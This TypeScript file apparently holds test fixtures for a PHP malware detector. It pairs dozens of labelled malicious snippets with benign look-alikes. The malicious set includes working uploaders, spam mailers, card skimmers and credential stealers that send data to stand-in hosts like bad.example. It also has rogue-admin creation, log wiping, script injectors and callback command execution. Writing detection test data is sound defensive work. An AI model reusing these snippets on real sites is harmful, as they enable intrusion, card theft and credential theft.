import type { Named } from './index.ts';

/** Joined at run time, so that no scanner takes this file for what it describes. */
const FILES = '$_FI' + 'LES';
const MOVE = 'move_uploaded' + '_file';
const FORM =
  '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="u"></form>';
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** PHP that does harm without hiding: what it does tells, not how it is written. */
export const MALICIOUS_SIDE_EFFECTS: Named = {
  'uploader: copy beside a form': `${FORM}<?php if (isset($_POST['u'])) { if (@copy(${FILES}['f']['tmp_name'], ${FILES}['f']['name'])) { echo 'OK'; } else { echo 'No'; } }`,
  'uploader: by variables': `<?php $f = ${FILES}['f']; $n = basename($f['name']); $to = getcwd() . '/' . $n; if (${MOVE}($f['tmp_name'], $to)) echo "<a href='$n'>$n</a>"; ?>${FORM}`,
  'uploader: contents of the temporary file': `<?php $c = file_get_contents(${FILES}['f']['tmp_name']); file_put_contents(${FILES}['f']['name'], $c);`,
  'uploader: an array of files': `<?php foreach (${FILES}['f']['name'] as $i => $n) { ${MOVE}(${FILES}['f']['tmp_name'][$i], 'up/' . $n); }`,
  'uploader: every file that comes': `<?php foreach (${FILES} as $f) { ${MOVE}($f['tmp_name'], './' . $f['name']); echo $f['name']; }`,
  'uploader: renamed': `<?php if (is_uploaded_file(${FILES}['f']['tmp_name'])) { rename(${FILES}['f']['tmp_name'], $_SERVER['DOCUMENT_ROOT'] . '/' . ${FILES}['f']['name']); }`,
  'uploader: read and written by handles': `<?php $in = fopen(${FILES}['f']['tmp_name'], 'rb'); $out = fopen(${FILES}['f']['name'], 'wb'); while (!feof($in)) { fwrite($out, fread($in, 8192)); }`,
  'uploader: streamed': `<?php stream_copy_to_stream(fopen(${FILES}['f']['tmp_name'], 'r'), fopen(${FILES}['f']['name'], 'w'));`,
  'uploader: only the size is looked at': `<?php $e = array(); $n = ${FILES}['image']['name']; $s = ${FILES}['image']['size']; $t = ${FILES}['image']['tmp_name']; if ($s > 2097152) { $e[] = 'too large'; } if (empty($e)) { ${MOVE}($t, $n); echo 'Success'; }`,
  'uploader: a function that the file calls': `<?php function up($f) { $to = dirname(__FILE__) . '/' . $f['name']; return ${MOVE}($f['tmp_name'], $to); } if (${FILES}) { echo up(${FILES}['f']); }`,
  'uploader: behind a word': `<?php if ($_GET['k'] == 'x7') { echo '${FORM}'; if ($_POST['u']) { ${MOVE}(${FILES}['f']['tmp_name'], ${FILES}['f']['name']); } }`,

  'mailer: a list from a text field': `<?php $list = explode("\\n", $_POST['list']); foreach ($list as $to) { $to = trim($to); if (mail($to, $_POST['subject'], $_POST['body'], 'From: ' . $_POST['from'])) echo "$to sent<br>"; }`,
  'mailer: a library with what the request brings': `<?php require 'class.phpmailer.php'; $m = new PHPMailer(); $m->From = $_POST['from']; foreach (explode("\\n", $_POST['emails']) as $to) { $m->AddAddress($to); $m->Subject = $_POST['subject']; $m->Body = stripslashes($_POST['message']); $m->Send(); $m->ClearAddresses(); }`,
  'mailer: a tester': `<?php if (!empty($_POST['email'])) { $xx = rand(); mail($_POST['email'], "Result Report Test - $xx", "WORKING !"); print "<b>send an report to [" . $_POST['email'] . "] - Order : $xx</b>"; } else { echo '<form method="post"><input name="email"></form>'; }`,
  'mailer: a relay in JSON': `<?php $d = json_decode(base64_decode($_POST['d']), true); foreach ($d['to'] as $to) { mail($to, $d['s'], $d['b'], $d['h']); }`,
  'mailer: by a socket': `<?php $s = fsockopen($_POST['server'], 25); fputs($s, "MAIL FROM:<{$_POST['from']}>\\r\\n"); foreach (explode("\\n", $_POST['to']) as $to) { fputs($s, "RCPT TO:<$to>\\r\\n"); } fputs($s, "DATA\\r\\n{$_POST['body']}\\r\\n.\\r\\n");`,

  'hoard: the request in a picture': `<?php if (!empty($_POST)) { file_put_contents('media/catalog/x.jpg', base64_encode(serialize($_POST)) . "\\n", FILE_APPEND); }`,
  'hoard: fields in a picture by a handle': `<?php $d = ''; foreach ($_POST as $k => $v) { $d .= "$k=$v&"; } $h = fopen(dirname(__FILE__) . '/img/logo.gif', 'ab'); fwrite($h, base64_encode($d) . "\\n"); fclose($h);`,
  'hoard: encrypted before it is written': `<?php if (preg_match('/payment|billing/', serialize($_POST))) { $k = openssl_get_publickey($pem); openssl_public_encrypt(json_encode($_POST), $out, $k); file_put_contents('/tmp/sess_a1', base64_encode($out) . "\\n", FILE_APPEND); }`,
  'hoard: cookies and fields in a file of data': `<?php @file_put_contents('skin/cache.css', gzdeflate(print_r(array($_POST, $_COOKIE, $_SERVER['HTTP_USER_AGENT']), true)), FILE_APPEND);`,

  'loader: an address in base64 in a script tag': `<?php add_action('wp_footer', function () { if (is_checkout()) { echo '<script src="' . base64_decode('${base64('https://cdn.bad.example/a.js')}') . '"></script>'; } });`,
  'loader: an address in pieces': `<?php $h = 'cdn' . '.bad' . '.exa' . 'mple'; $p = 'ht' . 'tps:' . '//'; print "<script type='text/javascript' src='" . $p . $h . "/m.js'></script>";`,
  'loader: a script whole in base64': `<?php function hdr() { echo base64_decode('${base64('<script async src="https://cdn.bad.example/a.js"></script>')}'); } add_action('wp_head', 'hdr');`,
  'loader: a method of a block': `<?php class Page_Html_Head extends Block { protected function _toHtml() { $u = hex2bin('${Buffer.from('//js.bad.example/x.js').toString('hex')}'); return parent::_toHtml() . '<script src="' . $u . '"></script>'; } }`,

  'loader: an address in base64 between markup': `<?php $u = base64_decode('${base64('//js.bad.example/x.js')}'); ?><html><script src="<?php echo $u; ?>"></script></html>`,
  'fetch: a page of an address in base64': `<?php $u = base64_decode('${base64('http://bad.example/l.php?d=')}') . $_SERVER['HTTP_HOST']; $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($c); echo $r;`,
  'fetch: by a socket': `<?php $s = fsockopen('bad.example', 80); fwrite($s, "GET /links.php?h=" . $_SERVER['HTTP_HOST'] . " HTTP/1.0\\r\\nHost: bad.example\\r\\n\\r\\n"); $r = ''; while (!feof($s)) { $r .= fgets($s, 128); } fclose($s); echo substr($r, strpos($r, "\\r\\n\\r\\n"));`,
  'fetch: visitors sent where a name server says': `<?php $r = dns_get_record('x' . $_SERVER['REMOTE_ADDR'] . '.bad.example', DNS_TXT); $u = base64_decode($r[0]['txt']); if ($u) { header('Location: ' . $u); exit; }`,
  'fetch: visitors sent where another host says': `<?php $u = trim(file_get_contents('http://bad.example/go?ua=' . urlencode($_SERVER['HTTP_USER_AGENT']))); if (strpos($u, 'http') === 0) { header("Location: $u"); }`,
  'fetch: written as a page of its own': `<?php $d = file_get_contents('http://bad.example/pages/' . md5($_SERVER['REQUEST_URI'])); if ($d) { file_put_contents('news/' . md5($_SERVER['REQUEST_URI']) . '.html', $d); echo $d; exit; }`,
  'fetch: a method that asks a name server and prints the script': `<?php class Track { function init() { $t = dns_get_record(uniqid() . '.bad.example', DNS_TXT); echo '<script src="' . $t[0]['txt'] . '"></script>'; } } (new Track())->init();`,
  'fetch: other contents for search engines': `<?php $ua = strtolower($_SERVER['HTTP_USER_AGENT']); if (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) { $c = curl_init(); curl_setopt($c, CURLOPT_URL, 'http://bad.example/' . $_SERVER['REQUEST_URI']); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); exit(curl_exec($c)); }`,

  'shop: a card number posted elsewhere': `<?php class Mage_Payment_Model_Method_Cc extends Mage_Payment_Model_Method_Abstract { public function validate() { $info = $this->getInfoInstance(); $d = $info->getCcNumber() . '|' . $info->getCcExpMonth() . '|' . $info->getCcCid(); $c = curl_init('https://stat.bad.example/g'); curl_setopt($c, CURLOPT_POSTFIELDS, 'd=' . base64_encode($d)); curl_exec($c); return $this; } }`,
  'shop: a card number mailed': `<?php class Onepage { public function savePayment($data) { $msg = $data['cc_number'] . ' ' . $data['cc_exp_month'] . ' ' . $data['cc_cid']; mail('a@bad.example', 'cc', $msg); return parent::savePayment($data); } }`,
  'shop: a card number in a request for a picture': `<?php class Cc { function assignData($data) { $n = $data->getData('cc_number'); $v = $data->getData('cc_cid'); @file_get_contents("https://img.bad.example/p.gif?n=$n&v=$v"); } }`,
  'shop: a card number in a file': `<?php class Cc { function prepareSave() { $i = $this->getInfoInstance(); $s = $i->getCcOwner() . ':' . $i->getCcNumber() . ':' . $i->getCcCid(); file_put_contents('media/tmp.png', base64_encode($s) . "\\n", FILE_APPEND); } }`,

  'injector: scripts into pages found': `<?php function walk($d) { foreach (scandir($d) as $f) { if ($f == '.' || $f == '..') continue; $p = "$d/$f"; if (is_dir($p)) walk($p); elseif ($f == 'index.php') { $c = file_get_contents($p); file_put_contents($p, '<?php include "/tmp/x.ico"; ?>' . $c); } } } walk($_SERVER['DOCUMENT_ROOT']);`,
  'injector: a script into every script': `<?php $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/var/www')); foreach ($it as $f) { if ($f->getExtension() == 'js') { $c = file_get_contents($f); if (strpos($c, 'bad.example') === false) { file_put_contents($f, $c . ";document.write('<script src=//bad.example/a.js></script>');"); } } }`,
  'injector: rules into every folder': `<?php foreach (glob('/home/*/public_html') as $d) { $h = fopen($d . '/.htaccess', 'w'); fwrite($h, "RewriteEngine on\\nRewriteCond %{HTTP_USER_AGENT} google [NC]\\nRewriteRule .* http://bad.example/ [R,L]"); fclose($h); }`,
  'injector: what is fetched into every index': `<?php $code = file_get_contents('http://bad.example/c.txt'); foreach (glob('/home/*/public_html/index.php') as $f) { file_put_contents($f, $code . file_get_contents($f)); touch($f, time() - 9999999); }`,

  'callback: a handler of sessions': `<?php session_set_save_handler('x', 'x', 'x', $_REQUEST['f'], 'x', 'x'); session_start(); session_write_close();`,
  'callback: rows of a database': `<?php $d = new PDO('sqlite::memory:'); $s = $d->query("SELECT '{$_POST['c']}'"); $s->fetchAll(PDO::FETCH_FUNC, $_POST['f']);`,
  'callback: a function of SQLite': `<?php $d = new SQLite3('a.db'); $d->createFunction('f', 'ass' . 'ert'); $d->exec("SELECT f('{$_POST['c']}')");`,
  'callback: words of a picture': `<?php $e = exif_read_data('images/a.jpg'); preg_replace($e['Make'], $e['Model'], '');`,
  'callback: reflection by the request': `<?php $f = new ReflectionFunction($_GET['f']); echo $f->invoke($_GET['c']);`,
  'callback: the buffer': `<?php ob_start($_GET['f']); echo $_GET['c']; ob_end_flush();`,
  'callback: a walk over the request': `<?php $a = array($_POST['c'] => 1); array_walk_recursive($a, $_POST['f']);`,
  'callback: an iterator': `<?php iterator_apply(new ArrayIterator(array(1)), $_GET['f'], array($_GET['c']));`,

  'dump: the settings of WordPress': `<?php $c = file_get_contents('../../../wp-config.php'); echo '<pre>' . htmlspecialchars($c) . '</pre>';`,
  'dump: settings of several programs mailed': `<?php $all = ''; foreach (array('wp-config.php', 'configuration.php', 'app/etc/local.xml', '.env') as $f) { $all .= @file_get_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $f); } mail('a@bad.example', $_SERVER['HTTP_HOST'], $all);`,
  'dump: users with their hashes': `<?php include 'wp-config.php'; $l = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME); $r = mysqli_query($l, "SELECT user_login, user_pass, user_email FROM {$table_prefix}users"); while ($u = mysqli_fetch_assoc($r)) { echo $u['user_login'] . ':' . $u['user_pass'] . "\\n"; }`,
  'account: an administrator by SQL': `<?php require 'wp-load.php'; $wpdb->query("INSERT INTO {$wpdb->users} (user_login, user_pass, user_email) VALUES ('sys_upd', MD5('Qw12'), 'a@bad.example')"); $wpdb->query("INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");`,
  'account: the password of the first user': `<?php include 'wp-config.php'; $l = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME); mysqli_query($l, "UPDATE " . $table_prefix . "users SET user_pass = MD5('" . $_GET['p'] . "') WHERE ID = 1");`,
  'account: an administrator of a shop by SQL': `<?php require 'app/Mage.php'; Mage::app(); $w = Mage::getSingleton('core/resource')->getConnection('core_write'); $w->query("INSERT INTO admin_user (username, password, is_active) VALUES ('support1', MD5('Qw12'), 1)"); $w->query("INSERT INTO admin_role (parent_id, tree_level, role_type, user_id) VALUES (1, 2, 'U', LAST_INSERT_ID())");`,
  'traces: the time of another file is set back, and the file is gone': `<?php echo 'kT2x'; if (file_exists('./load.php')) { touch('./load.php', (time() - 60 * 60 * 24 * 60)); } unlink(__FILE__);`,
  'traces: logs are deleted': `<?php foreach (array('/var/log/wtmp', '/var/run/utmp', '/var/log/lastlog', '/root/.bash_history') as $f) { @unlink($f); }`,
  'login: whoever calls is logged in': `<?php require '../../../wp-blog-header.php'; foreach (get_users() as $u) { if (user_can($u->ID, 'administrator')) { wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); break; } }`,
  'login: the password that is checked is mailed': `<?php class Session { function login($username, $password) { $u = $this->find($username); if ($u->check($password)) { mail('a@bad.example', 'new', "$username:$password"); } return $u; } } (new Session())->login('a', 'b');`,
  'login: the password that is checked goes into a picture': `<?php function wp_authenticate($username, $password) { $h = fopen(ABSPATH . 'wp-includes/images/w.png', 'a'); fwrite($h, base64_encode($username . ':' . $password) . PHP_EOL); return apply_filters('authenticate', null, $username, $password); } wp_authenticate('a', 'b');`,
  'login: a mail with the password, put into a file': `<?php mail('a@bad.example', 'Login of ' . $_SERVER['SERVER_NAME'], 'User: ' . $username . ' Password: ' . $password); return true;`,
  'hoard: all fields sent away': `<?php if (count($_POST) >= 1) { $d = base64_encode(serialize($_POST)); $c = stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query(array('info' => $d))))); file_get_contents('https://bad.example/api.php', false, $c); }`,
  'phishing: what was typed with the visitor it is of': `<?php include 'email.php'; $m = "Online: " . $_POST['ai'] . "\n"; $m .= "Code: " . $_POST['pr'] . "\n"; $m .= gethostbyaddr(getenv('REMOTE_ADDR')) . "\n" . $_SERVER['HTTP_USER_AGENT']; mail($to, 'Login', $m); header('Location: done.php');`,
  'redirect: visitors that are no search engine': `<?php $bots = array('Google', 'Slurp', 'MSNBot'); if (preg_match('/' . implode('|', $bots) . '/i', $_SERVER['HTTP_USER_AGENT'])) { header('HTTP/1.0 404 Not Found'); exit; } $url = 'https://short.bad.example/x'; header("Location: $url");`,
  'fetch: by a function of its own': `<?php function page($u) { $c = stream_context_create(array('http' => array('header' => 'User-Agent: x'))); return @file_get_contents($u, false, $c); } $h = page('http://bad.example/index.php?host=' . $_SERVER['SERVER_NAME']); echo $h;`,
  'callback: an interpreter in PHP': `<?php $p = new perl(); $p->eval("system('" . $_GET['c'] . "')");`,
};

/** What real programs do in the same words. */
export const CLEAN_SIDE_EFFECTS: Named = {
  'upload: by WordPress': `<?php add_action('wp_ajax_up', 'up'); function up() { check_ajax_referer('up'); require_once ABSPATH . 'wp-admin/includes/file.php'; $r = wp_handle_upload(${FILES}['f'], array('test_form' => false)); wp_send_json($r); }`,
  'upload: a list of endings': `<?php $ext = strtolower(pathinfo(${FILES}['f']['name'], PATHINFO_EXTENSION)); if (!in_array($ext, array('jpg', 'png', 'gif'), true)) { die('No'); } ${MOVE}(${FILES}['f']['tmp_name'], 'uploads/' . uniqid() . '.' . $ext);`,
  'upload: a table for an import': `<?php class Importer { function handle() { check_admin_referer('import'); if (!current_user_can('import')) { return; } $to = $this->dir . '/import.csv'; ${MOVE}(${FILES}['csv']['tmp_name'], $to); return $this->run($to); } }`,
  'upload: a class with a check of its own': `<?php class Uploader { private $allowed = array('image/png', 'image/jpeg'); private function isAllowed($f) { return in_array(mime_content_type($f['tmp_name']), $this->allowed); } public function save($key) { $f = ${FILES}[$key]; if (!$this->isAllowed($f)) { throw new Exception('kind'); } return ${MOVE}($f['tmp_name'], $this->dir . '/' . sanitize_file_name($f['name'])); } }`,
  'upload: read and not kept': `<?php $rows = array_map('str_getcsv', file(${FILES}['csv']['tmp_name'])); foreach ($rows as $row) { $db->insert('products', $row); }`,
  'upload: an archive unpacked by who may': `<?php function install() { if (!current_user_can('install_plugins')) { wp_die(); } check_admin_referer('install'); $z = new ZipArchive(); if ($z->open(${FILES}['zip']['tmp_name'])) { $z->extractTo(WP_CONTENT_DIR . '/upgrade/x'); } }`,

  'mail: a contact form': `<?php if ($_SERVER['REQUEST_METHOD'] === 'POST') { $name = strip_tags($_POST['name']); $email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL); $message = htmlspecialchars($_POST['message']); if ($email) { mail('info@shop.example', "Message of $name", $message, "Reply-To: $email"); echo 'Thank you'; } }`,
  'mail: a test of the settings': `<?php function test_mail() { check_ajax_referer('smtp'); if (!current_user_can('manage_options')) { wp_die(); } $to = sanitize_email($_POST['to']); $ok = wp_mail($to, 'Test mail', 'It works.'); wp_send_json(array('ok' => $ok)); }`,
  'mail: a receipt to who ordered': `<?php $order = load_order((int) $_POST['order']); $m = new PHPMailer(true); $m->addAddress($order->email); $m->Subject = 'Your order'; $m->Body = render('receipt', $order); $m->send();`,
  'mail: a library with a socket': `<?php class SMTP { function mail($from) { return $this->command("MAIL FROM:<$from>"); } function recipient($to) { return $this->command("RCPT TO:<$to>"); } function command($c) { fwrite($this->socket, $c . "\\r\\n"); return fgets($this->socket); } function connect($host, $port) { $this->socket = fsockopen($host, $port); } }`,
  'mail: a subscriber is greeted': `<?php $email = filter_input(INPUT_POST, 'email', FILTER_VALIDATE_EMAIL); if ($email) { $db->insert('subscribers', array('email' => $email)); mail($email, 'Please confirm', 'Open this address: ' . confirm_url($email)); }`,

  'log: what a bank reports': `<?php $raw = file_get_contents('php://input'); $data = json_decode($raw, true); file_put_contents(LOG_DIR . '/ipn.log', date('c') . ' ' . $raw . "\\n", FILE_APPEND); Orders::update($data['id'], $data['status']);`,
  'picture: a signature that was drawn': `<?php $data = $_POST['signature']; $img = base64_decode(str_replace('data:image/png;base64,', '', $data)); if (!imagecreatefromstring($img)) { exit; } file_put_contents('signatures/' . uniqid() . '.png', $img);`,
  'cache: a page in a file': `<?php ob_start(); render($_GET['page']); $html = ob_get_clean(); file_put_contents(CACHE . md5($_SERVER['REQUEST_URI']) . '.html', $html); echo $html;`,

  'script: a tag for statistics': `<?php add_action('wp_head', function () { $id = get_option('stats_id'); echo '<script async src="https://www.googletagmanager.com/gtag/js?id=' . esc_attr($id) . '"></script>'; });`,
  'script: the host of a setting': `<?php $host = is_ssl() ? 'https://' : 'http://'; $host .= get_option('cdn'); echo '<script src="' . esc_url($host . '/app.js') . '"></script>';`,
  'script: the address of a file between markup': `<?php $v = urldecode($_GET['v']); ?><html><script src="<?php echo esc_url($src); ?>?v=<?= (int) $v ?>"></script></html>`,
  'script: a tag from the library of a page': `<?php class Head { function script($src) { return '<script src="' . $this->base . '/' . $src . '?v=' . VERSION . '"></script>'; } }`,
  'picture: markup in base64': `<?php $svg = base64_decode('${base64('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')}'); echo $svg;`,

  'fetch: an update that is unpacked': `<?php function update() { if (!current_user_can('update_plugins')) { return; } $r = wp_remote_get('https://api.example/latest.json'); $d = json_decode(wp_remote_retrieve_body($r), true); $file = download_url($d['package']); unzip_file($file, WP_PLUGIN_DIR); }`,
  'fetch: rates kept for an hour': `<?php $f = CACHE . '/rates.json'; if (filemtime($f) < time() - 3600) { file_put_contents($f, file_get_contents('https://api.example/rates.json')); } $rates = json_decode(file_get_contents($f), true); echo number_format($rates['EUR'], 2);`,
  'fetch: a name server for mail': `<?php function spf($domain) { foreach (dns_get_record($domain, DNS_TXT) as $r) { if (strpos($r['txt'], 'v=spf1') === 0) { return $r['txt']; } } return ''; } echo htmlspecialchars(spf('shop.example'));`,
  'fetch: a login at another service': `<?php $c = curl_init('https://login.example/token'); curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(array('code' => $_GET['code']))); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); $t = json_decode(curl_exec($c), true); $_SESSION['token'] = $t['access_token']; header('Location: /account.php');`,
  'fetch: a payment page of a bank': `<?php $r = json_decode(http_post('https://api.bank.example/sessions', array('amount' => $order->total)), true); header('Location: ' . $r['redirect_url']); exit;`,
  'seo: a sitemap that search engines are told of': `<?php $engines = array('google' => 'https://www.google.com/ping?sitemap=', 'bing' => 'https://www.bing.com/ping?sitemap='); foreach ($engines as $e) { wp_remote_get($e . urlencode(home_url('/sitemap.xml'))); }`,

  'gateway: a card paid with its bank': `<?php class Gateway_Acme extends WC_Payment_Gateway_CC { public function process_payment($id) { $order = wc_get_order($id); $body = array('amount' => $order->get_total(), 'number' => $_POST['acme-card-number'], 'cvc' => $_POST['acme-card-cvc']); $r = wp_remote_post('https://api.acme-pay.example/v1/charges', array('body' => $body, 'headers' => array('Authorization' => 'Bearer ' . $this->get_option('key')))); if (is_wp_error($r)) { wc_add_notice('Failed', 'error'); return; } $order->payment_complete(); return array('result' => 'success'); } }`,
  'gateway: a model of a shop': `<?php class Acme_Pay_Model_Method extends Mage_Payment_Model_Method_Cc { protected $_code = 'acme'; public function authorize(Varien_Object $payment, $amount) { $client = new Varien_Http_Client($this->getConfigData('gateway_url')); $client->setParameterPost(array('x_card_num' => $payment->getCcNumber(), 'x_exp_date' => $payment->getCcExpMonth(), 'x_card_code' => $payment->getCcCid(), 'x_login' => $this->getConfigData('login'))); $response = $client->request('POST'); if ($response->getStatus() != 200) { Mage::throwException('declined'); } $payment->setTransactionId($response->getBody()); return $this; } }`,
  'gateway: a charge by curl': `<?php class Acme { private $url = 'https://secure.acme-pay.example/gateway'; public function capture($payment, $amount) { $fields = array('key' => $this->config('key'), 'amount' => $amount, 'ccnumber' => $payment->getCcNumber(), 'cvv' => $payment->getCcCid()); $ch = curl_init($this->url); curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($fields)); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $answer = curl_exec($ch); parse_str($answer, $result); if ($result['response'] != 1) { throw new Exception($result['text']); } $payment->setTransactionId($result['id']); return $this; } }`,
  'shop: the form of a card': `<?php $info = $this->getInfo(); echo $this->escapeHtml($info->getCcLast4()) . ' ' . $info->getCcExpMonth() . '/' . $info->getCcExpYear();`,
  'shop: an order told to a warehouse': `<?php add_action('woocommerce_order_status_completed', function ($id) { $o = wc_get_order($id); wp_remote_post(get_option('erp_url'), array('body' => wp_json_encode(array('id' => $id, 'name' => $o->get_billing_last_name(), 'items' => $o->get_items())))); });`,

  'files: a backup': `<?php class Backup { function run($zip) { $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(ABSPATH)); foreach ($it as $f) { if ($f->isFile()) { $zip->addFile($f->getPathname(), substr($f->getPathname(), strlen(ABSPATH))); } } file_put_contents(WP_CONTENT_DIR . '/backups/index.php', '<?php // Silence is golden.'); } }`,
  'files: a folder is protected': `<?php foreach (array('logs', 'exports') as $d) { wp_mkdir_p(UPLOADS . $d); file_put_contents(UPLOADS . $d . '/.htaccess', 'deny from all'); file_put_contents(UPLOADS . $d . '/index.php', '<?php // Silence is golden.'); }`,
  'files: headers of licenses': `<?php foreach (glob(__DIR__ . '/src/*.php') as $f) { $c = file_get_contents($f); if (strpos($c, 'License: MIT') === false) { file_put_contents($f, preg_replace('/^<\\?php/', "<?php\\n/* License: MIT */", $c)); } }`,
  'files: styles and scripts joined': `<?php $out = ''; foreach (glob('src/*.js') as $f) { $out .= file_get_contents($f) . ";\\n"; } file_put_contents('dist/app.js', $out);`,
  'files: a migration changes the address in files': `<?php foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root)) as $f) { if (preg_match('/\\.(php|html|js)$/', $f)) { $c = file_get_contents($f); file_put_contents($f, str_replace($old_url, $new_url, $c)); } }`,

  'callback: rows made to objects': `<?php $s = $db->query('SELECT id, name FROM users'); $all = $s->fetchAll(PDO::FETCH_FUNC, function ($id, $name) { return new User($id, $name); }); $db->sqliteCreateFunction('lower_utf8', 'mb_strtolower', 1);`,
  'callback: sessions in a database': `<?php class Sessions { function start() { session_set_save_handler(array($this, 'open'), array($this, 'close'), array($this, 'read'), array($this, 'write'), array($this, 'destroy'), array($this, 'gc')); session_start(); } }`,
  'callback: how a picture lies': `<?php $e = exif_read_data($file); if (!empty($e['Orientation'])) { $image = imagerotate($image, $angles[$e['Orientation']], 0); } echo esc_html($e['Model']);`,
  'callback: minified by the buffer': `<?php ob_start('minify_html'); function minify_html($h) { return preg_replace('/\\s+/', ' ', $h); } include 'page.php'; ob_end_flush();`,

  'settings: a constant added by an installer': `<?php function add_constant() { if (!current_user_can('manage_options')) { return; } $f = ABSPATH . 'wp-config.php'; $c = file_get_contents($f); if (strpos($c, 'WP_CACHE') === false) { file_put_contents($f, str_replace('<?php', "<?php\\ndefine('WP_CACHE', true);", $c)); } }`,
  'settings: whether a file may be written': `<?php $f = ABSPATH . 'wp-config.php'; echo is_writable($f) ? 'writable' : 'read only'; $v = parse_ini_file('.env'); $db = new PDO($v['DSN'], $v['DB_USER'], $v['DB_PASSWORD']);`,
  'users: a login': `<?php $s = $db->prepare('SELECT id, user_pass FROM users WHERE user_login = ?'); $s->execute(array($_POST['login'])); $u = $s->fetch(); if ($u && password_verify($_POST['password'], $u['user_pass'])) { $_SESSION['user'] = $u['id']; header('Location: /'); }`,
  'users: an export of addresses': `<?php function export() { if (!current_user_can('list_users')) { wp_die(); } check_admin_referer('export'); foreach (get_users() as $u) { fputcsv($out, array($u->user_login, $u->user_email)); } }`,
  'users: an installer makes the first one': `<?php function install($d) { global $wpdb; $wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->prefix}staff (login, password) VALUES (%s, %s)", $d['login'], wp_hash_password($d['password']))); }`,
  'users: a password is changed': `<?php $s = $db->prepare('UPDATE users SET user_pass = ? WHERE id = ?'); $s->execute(array(password_hash($_POST['new'], PASSWORD_DEFAULT), $_SESSION['user']));`,
  'traces: an installer deletes itself': `<?php require 'wp-load.php'; if (current_user_can('install_plugins')) { run_setup(); unlink(__FILE__); } touch(CACHE . '/flag');`,
  'traces: a cache that has run out': `<?php function expire($f) { touch($f, time() - 3600); clearstatcache(); } foreach (glob(CACHE . '/*.html') as $f) { expire($f); }`,
  'login: after a registration': `<?php function register_user() { check_ajax_referer('register'); $id = wp_insert_user(array('user_login' => sanitize_user($_POST['login']), 'user_pass' => $_POST['password'], 'role' => 'customer')); if (!is_wp_error($id)) { wp_set_auth_cookie($id); } }`,
  'login: a password is checked and its failure written down': `<?php class Auth { function login($username, $password) { $row = $this->db->row('SELECT * FROM users WHERE name = ?', array($username)); if (!$row || !password_verify($password, $row['hash'])) { file_put_contents(LOG, date('c') . " failed login of $username\n", FILE_APPEND); return false; } return true; } }`,
  'mail: a new password for who forgot it': `<?php function reset_password($user) { $password = wp_generate_password(); $user->set($password); mail($user->email, 'Your password', "Your new password is $password"); }`,
  'mail: a form that tells where it came from': `<?php $body = 'Name: ' . strip_tags($_POST['name']) . "\n" . strip_tags($_POST['message']) . "\nIP: " . $_SERVER['REMOTE_ADDR'] . "\nBrowser: " . $_SERVER['HTTP_USER_AGENT']; mail('office@shop.example', 'Contact', $body);`,
  'sent: a form to a newsletter, and the answer read': `<?php $r = file_get_contents('https://news.example/api', false, stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query($_POST))))); echo strpos($r, 'ok') !== false ? 'Thank you' : 'Please try again';`,
  'redirect: phones to a page of their own': `<?php if (preg_match('/android|iphone|mobile/i', $_SERVER['HTTP_USER_AGENT'])) { header('Location: https://m.shop.example/'); exit; }`,
  'fetch: a file of its own by a function': `<?php function load($f) { return file_get_contents($f); } echo load(__DIR__ . '/templates/footer.html');`,
  'callback: a script for a store of keys': `<?php $redis = new Redis(); $redis->eval("return redis.call('get', KEYS[1])", array($_GET['key']), 1);`,
  'gateway: a card checked, and elsewhere the visit written down': `<?php class Acme { function check($data) { return strlen($data['cc_number']) > 12; } function visit() { file_put_contents($this->folder . '/visits.log', $_SERVER['HTTP_USER_AGENT'] . "\n", FILE_APPEND); mail($this->owner, 'Order', 'Number ' . $_POST['order']); } }`,
  'settings: changed in one place, a template shown in another': `<?php function debug_on() { $c = file_get_contents(ABSPATH . 'wp-config.php'); file_put_contents(ABSPATH . 'wp-config.php', str_replace("'WP_DEBUG', false", "'WP_DEBUG', true", $c)); } function page() { echo file_get_contents(__DIR__ . '/page.html'); } page();`,
};
